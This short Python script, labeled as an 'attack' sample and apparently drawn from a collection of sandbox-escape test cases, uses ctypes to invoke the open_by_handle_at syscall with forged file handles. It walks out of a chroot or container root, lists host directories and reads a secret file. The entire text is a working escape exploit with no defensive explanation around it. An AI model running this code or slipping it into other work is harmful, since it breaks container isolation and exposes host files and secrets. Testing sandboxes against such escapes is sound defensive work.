# attack: opens a file by its number instead of its path (open_by_handle_at), which walks out of any root
# family: ctypes
import ctypes
import os
libc = ctypes.CDLL(None, use_errno=True)
mount = os.open("/", os.O_RDONLY)
for number in (2, 64, 128, 256):
    handle = (ctypes.c_uint32 * 4)(8, 1, number, 0)
    fd = libc.syscall(304, mount, handle, os.O_RDONLY)
    if fd >= 0:
        print("REACHED inode", number, os.listdir(fd)[:9])
        print(os.read(os.open("$SECRET_FILE".lstrip("/"), os.O_RDONLY, dir_fd=fd), 4096))
    else:
        print(number, os.strerror(ctypes.get_errno()))
